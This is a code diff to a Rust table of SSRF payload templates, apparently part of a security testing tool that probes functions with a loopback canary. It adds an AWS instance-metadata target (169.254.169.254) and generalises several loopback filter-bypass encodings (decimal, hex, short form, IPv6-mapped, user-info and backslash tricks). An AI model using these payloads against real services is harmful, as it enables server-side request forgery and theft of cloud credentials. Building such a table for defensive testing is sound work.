@@ -1,4 +1,5 @@
-//! Payloads for addresses that the function asks: the canary port on loopback, and nothing else.
+//! Payloads for addresses that the function asks: the canary address on loopback, and nothing else but the port of it on the
+//! metadata address. AWS "Instance metadata" has the service at 169.254.169.254, port 80: no other port answers there.
 
 use super::{Effect, Payload, PayloadClass};
 
@@ -8,24 +9,29 @@ const fn ssrf(id: &'static str, template: &'static str, why: &'static str) -> Pa
 
 /// Best first.
 pub(super) const PAYLOADS: &[Payload] = &[
-    ssrf("ssrf-url", "http://127.0.0.1:{P}/{C}", "the function asks whatever URL it is given"),
+    ssrf("ssrf-url", "http://{A}:{P}/{C}", "the function asks whatever URL it is given"),
     ssrf(
         "ssrf-user-info",
-        "@127.0.0.1:{P}/{C}",
+        "@{A}:{P}/{C}",
         "behind a host name without a slash, that name is user info",
     ),
-    ssrf("ssrf-host", "127.0.0.1:{P}/{C}?", "in the place of a host: what follows becomes a query"),
-    ssrf("ssrf-scheme-relative", "//127.0.0.1:{P}/{C}", "relative to a base, two slashes begin a host"),
+    ssrf("ssrf-host", "{A}:{P}/{C}?", "in the place of a host: what follows becomes a query"),
+    ssrf(
+        "ssrf-metadata",
+        "http://169.254.169.254:{P}/{C}",
+        "refused by nobody who refuses loopback and private networks only",
+    ),
+    ssrf("ssrf-scheme-relative", "//{A}:{P}/{C}", "relative to a base, two slashes begin a host"),
     ssrf(
         "ssrf-backslash",
-        "/\\127.0.0.1:{P}/{C}",
+        "/\\{A}:{P}/{C}",
         "a path by its first letters, a host to WHATWG URL parsers",
     ),
-    ssrf("ssrf-decimal", "http://2130706433:{P}/{C}", "127.0.0.1 as one number"),
-    ssrf("ssrf-hexadecimal", "http://0x7f000001:{P}/{C}", "127.0.0.1 as one hexadecimal number"),
-    ssrf("ssrf-short", "http://127.1:{P}/{C}", "127.0.0.1 in its short form"),
+    ssrf("ssrf-decimal", "http://{D}:{P}/{C}", "an address on loopback as one number"),
+    ssrf("ssrf-hexadecimal", "http://0x{H}:{P}/{C}", "an address on loopback as one hexadecimal number"),
+    ssrf("ssrf-short", "http://127.{S}:{P}/{C}", "an address on loopback in its short form"),
     ssrf("ssrf-zero", "http://0.0.0.0:{P}/{C}", "the unspecified address is this machine on Linux"),
-    ssrf("ssrf-mapped", "http://[::ffff:127.0.0.1]:{P}/{C}", "127.0.0.1 as an IPv6 address"),
+    ssrf("ssrf-mapped", "http://[::ffff:{A}]:{P}/{C}", "an address on loopback as an IPv6 address"),
     ssrf(
         "ssrf-name",
         "http://{C}.localhost:{P}/{C}",
